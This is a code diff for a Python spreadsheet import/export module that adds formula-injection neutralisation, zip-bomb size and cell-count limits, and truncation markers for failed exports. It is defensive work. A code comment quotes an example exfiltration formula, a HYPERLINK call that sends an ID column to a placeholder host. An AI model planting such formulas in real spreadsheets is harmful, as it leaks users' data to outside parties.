@@ -16,7 +16,11 @@ from __future__ import annotations
 import codecs
 import csv
 import io
+import logging
+import posixpath
+import re
 import tempfile
+import zipfile
 from collections.abc import Iterable, Iterator, Mapping, Sequence
 from dataclasses import dataclass
 from datetime import date, datetime, time, timedelta
@@ -24,6 +28,8 @@ from decimal import Decimal
 from pathlib import Path
 from typing import IO, Any
 from urllib.parse import quote
+from xml.etree import ElementTree
+from zlib import error as zlib_error
 
 from django.http import FileResponse, StreamingHttpResponse
 
@@ -31,9 +37,171 @@ from yanglao.core.dates import local_datetime
 
 XLSX_MAX_ROWS = 1_048_576  # Excel's sheet limit, header included
 
+logger = logging.getLogger(__name__)
+
+# Formula injection (CWE-1236): a spreadsheet program evaluates a cell that starts with one of
+# these (`=HYPERLINK("http://x/?"&B2)` sends out the ID column). Exports write such text
+# cells as explicit strings: xlsx with Excel's quote prefix (the text stays unchanged), CSV with
+# a leading apostrophe (OWASP). Numbers written as numbers (negative amounts) are not text.
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+STREAM_FAILED_MARKER = "### 导出中断：生成文件时出错，本文件不完整，请重新导出 ###"
+
+
+def is_formula_like(text: str) -> bool:
+    return text.startswith(FORMULA_TRIGGERS)
+
+
+def neutralise(text: str) -> str:
+    """Text for a CSV cell that no spreadsheet program evaluates as a formula."""
+    return "'" + text if is_formula_like(text) else text
+
+
+def unneutralise(text: str) -> str:
+    """Undo `neutralise` on a cell read back from a CSV (an exported ledger re-imported)."""
+    return text[1:] if text.startswith("'") and is_formula_like(text[1:]) else text
+
 
 class SheetError(Exception):
     """The file cannot be read at all (message in Chinese, for the user)."""
+
+
+# -- xlsx before parsing: zip bombs ---------------------------------------------------------
+# An .xlsx is a zip: 2.9 MB can unpack to gigabytes of XML, and calamine loads a whole sheet
+# into memory. Before any parse: the declared sizes from the zip directory, then the actual
+# sizes while decompressing in 1 MiB chunks (zipfile stops at the declared size and checks
+# the CRC, so a lying directory fails), the sheets' declared dimension and their actual cell
+# count. A million-row ledger of 17 columns is ~17 M cells and ~700 MB of XML.
+XLSX_MAX_UNCOMPRESSED = 1 << 30  # all members together, bytes
+XLSX_MAX_CELLS = 25_000_000
+XLSX_MAX_MEMBERS = 10_000
+_CHUNK = 1 << 20
+_CELL = re.compile(rb"<(?:\w+:)?c[\s/>]")
+_DIMENSION = re.compile(rb'<(?:\w+:)?dimension\s+ref="([A-Z]+)?(\d+)?(?::([A-Z]+)(\d+))?"')
+_ROW_END = re.compile(rb"</(?:\w+:)?row>|<(?:\w+:)?row\b[^>]*/>")
+_SHEETDATA = re.compile(rb"<(\w+:)?sheetData\b[^>]*>")
+_MERGES = re.compile(rb"<(?:\w+:)?mergeCells\b.*?</(?:\w+:)?mergeCells>", re.S)
+_TOO_BIG = (
+    "表格解压后过大（{}），疑似“压缩炸弹”或不是普通台账，请删除多余的工作表、行和列后重新保存"
+)
+
+
+def _col_number(letters: bytes) -> int:
+    n = 0
+    for ch in letters:
+        n = n * 26 + ch - 64
+    return n
+
+
+def _dimension_cells(head: bytes) -> int:
+    """Cells in a sheet's declared <dimension ref="A1:Q1000"/> (0 when absent)."""
+    m = _DIMENSION.search(head)
+    if not m or not m.group(2):
+        return 0
+    c1, r1, c2, r2 = m.groups()
+    if c2 is None:
+        return 1
+    return (abs(int(r2) - int(r1)) + 1) * (abs(_col_number(c2) - _col_number(c1 or b"A")) + 1)
+
+
+def _first_sheet(z: zipfile.ZipFile) -> str | None:
+    """The path of the workbook's first worksheet (the one calamine's index 0 reads)."""
+    try:
+        book = ElementTree.fromstring(z.read("xl/workbook.xml"))
+        rels = ElementTree.fromstring(z.read("xl/_rels/workbook.xml.rels"))
+    except (KeyError, ElementTree.ParseError):
+        return None
+    rid_attr = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
+    first = next((e for e in book.iter() if e.tag.endswith("}sheet")), None)
+    if first is None:
+        return None
+    for rel in rels:
+        if rel.get("Id") == first.get(rid_attr):
+            target = rel.get("Target", "")
+            return (
+                target.lstrip("/")
+                if target.startswith("/")
+                else posixpath.normpath(posixpath.join("xl", target))
+            )
+    return None
+
+
+def _truncated_sheet(head: bytes, merges: bytes, rows: int) -> bytes | None:
+    """The first `rows` rows of a worksheet's XML, closed again, with its merged ranges."""
+    opened = _SHEETDATA.search(head)
+    if opened is None:
+        return None
+    end = opened.end()
+    for n, m in enumerate(_ROW_END.finditer(head, opened.end()), start=1):
+        end = m.end()
+        if n >= rows:
+            break
+    prefix = (opened.group(1) or b"").decode()
+    closing = f"</{prefix}sheetData>".encode()
+    return head[:end] + closing + merges + f"</{prefix}worksheet>".encode()
+
+
+def check_xlsx(path: Path, *, head_rows: int = 0, head_copy: Path | None = None) -> None:
+    """Refuse a workbook whose decompressed size or cell count is over the limits (SheetError,
+    in Chinese), without parsing it. With `head_copy`, also write there a copy whose first
+    sheet keeps only its first `head_rows` rows, for a cheap look at the header."""
+    try:
+        z = zipfile.ZipFile(path)
+    except (zipfile.BadZipFile, OSError):
+        raise SheetError("文件不是有效的 .xlsx 表格（可能已损坏），请重新保存后上传") from None
+    with z:
+        members = z.infolist()
+        if len(members) > XLSX_MAX_MEMBERS:
+            raise SheetError(_TOO_BIG.format(f"{len(members)} 个部件"))
+        declared = sum(m.file_size for m in members)
+        if declared > XLSX_MAX_UNCOMPRESSED:
+            raise SheetError(_TOO_BIG.format(f"{declared / (1 << 20):,.0f} MB"))
+        first = _first_sheet(z)
+        actual = cells = 0
+        head = merges = b""
+        for m in members:
+            is_sheet = m.filename.startswith("xl/worksheets/") and m.filename.endswith(".xml")
+            keep_head = head_copy is not None and m.filename == first
+            tail = merge_buf = b""
+            collecting = False
+            try:
+                with z.open(m) as f:
+                    while chunk := f.read(_CHUNK):
+                        actual += len(chunk)
+                        if actual > XLSX_MAX_UNCOMPRESSED:
+                            raise SheetError(
+                                _TOO_BIG.format(f"超过 {XLSX_MAX_UNCOMPRESSED >> 20} MB")
+                            )
+                        if not is_sheet:
+                            continue
+                        declared_cells = 0 if tail else _dimension_cells(chunk[:4096])
+                        if declared_cells > XLSX_MAX_CELLS:
+                            raise SheetError(_TOO_BIG.format(f"声明 {declared_cells:,} 个单元格"))
+                        window = tail + chunk
+                        cells += len(_CELL.findall(window)) - len(_CELL.findall(tail))
+                        if cells > XLSX_MAX_CELLS:
+                            raise SheetError(_TOO_BIG.format(f"超过 {XLSX_MAX_CELLS:,} 个单元格"))
+                        tail = chunk[-64:]
+                        if not keep_head:
+                            continue
+                        if len(head) < 8 * _CHUNK:
+                            head += chunk
+                        if collecting or b"mergeCells" in window:
+                            merge_buf = merge_buf + chunk if collecting else window
+                            collecting = True
+                            if found := _MERGES.search(merge_buf):
+                                merges, merge_buf, collecting = found.group(0), b"", False
+                            elif len(merge_buf) > 4 * _CHUNK:
+                                merge_buf, collecting = b"", False
+            except (zipfile.BadZipFile, zlib_error, EOFError, NotImplementedError) as e:
+                raise SheetError(
+                    f"文件不是有效的 .xlsx 表格（{m.filename} 无法解压：{e}）"
+                ) from None
+        if head_copy is None or first is None:
+            return
+        sheet = _truncated_sheet(head, merges, head_rows)
+        with zipfile.ZipFile(head_copy, "w", zipfile.ZIP_DEFLATED) as out:
+            for m in members:
+                out.writestr(m.filename, sheet if m.filename == first and sheet else z.read(m))
 
 
 # -- reading ------------------------------------------------------------------------------
@@ -108,14 +276,26 @@ class Table:
     encoding: str = ""
 
 
-def open_table(path: Path, filename: str) -> Table:
-    """Open a stored upload; rows stream (csv) or come from calamine's parsed sheet (xlsx)."""
+def open_table(path: Path, filename: str, *, head_rows: int = 0) -> Table:
+    """Open a stored upload; rows stream (csv) or come from calamine's parsed sheet (xlsx),
+    after `check_xlsx`. With `head_rows` (the web request's look at the header) an xlsx is
+    not parsed whole: calamine reads a copy cut after that many rows."""
     with path.open("rb") as f:
         head = f.read(8)
     kind = sniff_kind(head, filename)
     if kind == "xlsx":
         from python_calamine import CalamineError, CalamineWorkbook
 
+        if head_rows:
+            with tempfile.TemporaryDirectory() as tmp:
+                copy = Path(tmp) / "head.xlsx"
+                check_xlsx(path, head_rows=head_rows, head_copy=copy)
+                if copy.exists():
+                    table = open_table(copy, "head.xlsx")
+                    rows = list(table.rows)  # read before the copy is deleted
+                    return Table(rows=iter(rows), merged=table.merged, kind=kind)
+        else:
+            check_xlsx(path)
         try:
             book = CalamineWorkbook.from_path(str(path))
             sheet = book.get_sheet_by_index(0)
@@ -132,7 +312,7 @@ def _csv_rows(path: Path, encoding: str) -> Iterator[list[str]]:
     with path.open("r", encoding=encoding, newline="") as f:
         try:
             for row in csv.reader(f):
-                yield _trim(row)
+                yield _trim([unneutralise(c) for c in row])
         except UnicodeDecodeError as e:
             raise SheetError(
                 f"文件编码不一致（按 {encoding} 读取时在第 {e.start} 字节出错）"
@@ -186,6 +366,11 @@ def write_xlsx(
         for c, f in (number_formats or {}).items()
     }
     bold_text = book.add_format({"bold": True, "num_format": "@"})
+    quoted = book.add_format({"num_format": "@", "quote_prefix": True})
+    bold_quoted = book.add_format({"bold": True, "num_format": "@", "quote_prefix": True})
+    bold_header_quoted = book.add_format(
+        {"bold": True, "bg_color": "#EEF2F7", "border": 1, "quote_prefix": True}
+    )
 
     def put(r: int, col: int, value: Any, last: bool = False) -> None:
         if value is None or value == "":
@@ -197,12 +382,16 @@ def write_xlsx(
         ):
             sheet.write_number(r, col, float(value), (bold_numeric if last else numeric)[col])
         elif isinstance(value, bool) or not isinstance(value, int | float):
-            sheet.write_string(r, col, cell_text(value), bold_text if last else None)
+            text_value = cell_text(value)
+            if is_formula_like(text_value):
+                sheet.write_string(r, col, text_value, bold_quoted if last else quoted)
+            else:
+                sheet.write_string(r, col, text_value, bold_text if last else None)
         else:
             sheet.write_number(r, col, value)
 
     for col, title in enumerate(header):
-        sheet.write_string(0, col, title, bold)
+        sheet.write_string(0, col, title, bold_header_quoted if is_formula_like(title) else bold)
         sheet.set_column(col, col, (widths[col] if widths else max(10, len(title) * 2 + 2)), text)
     sheet.freeze_panes(1, 0)
     n = 0
@@ -229,11 +418,18 @@ def xlsx_response(
     number_formats: Mapping[int, str] | None = None,
     footer: Sequence[Any] | None = None,
 ) -> FileResponse:
-    """Build the workbook in a temporary file (constant memory) and stream it."""
+    """Build the workbook in a temporary file (constant memory) and stream it.
+
+    The whole file is written before the response starts, so a failure half-way raises here
+    (an error page or message) instead of sending a truncated workbook with status 200."""
     tmp = tempfile.TemporaryFile()  # noqa: SIM115 -- the response closes (and so deletes) it
-    write_xlsx(
-        tmp, header, rows, sheet_name=sheet_name, number_formats=number_formats, footer=footer
-    )
+    try:
+        write_xlsx(
+            tmp, header, rows, sheet_name=sheet_name, number_formats=number_formats, footer=footer
+        )
+    except BaseException:
+        tmp.close()
+        raise
     tmp.seek(0)
     response = FileResponse(
         tmp,
@@ -248,11 +444,28 @@ class _Echo:
         return value
 
 
+def csv_cell(value: Any) -> str:
+    """A CSV cell: numbers stay numbers (a negative amount keeps its sign), text is
+    neutralised against formula injection."""
+    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
+        return cell_text(value)
+    return neutralise(cell_text(value))
+
+
 def csv_lines(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
+    """CSV lines as they stream. The status line (200) is sent before the rows are read, so a
+    failure half-way ends the file with `STREAM_FAILED_MARKER` and re-raises: the server
+    then aborts the connection (no final chunk), and a file that was saved anyway says it is
+    incomplete instead of passing for the whole list."""
     writer = csv.writer(_Echo())
-    yield "\ufeff" + writer.writerow(header)
-    for row in rows:
-        yield writer.writerow([cell_text(v) for v in row])
+    yield "\ufeff" + writer.writerow([neutralise(h) for h in header])
+    try:
+        for row in rows:
+            yield writer.writerow([csv_cell(v) for v in row])
+    except Exception:
+        logger.exception("CSV export failed half-way")
+        yield "\r\n" + STREAM_FAILED_MARKER + "\r\n"
+        raise
 
 
 def csv_response(
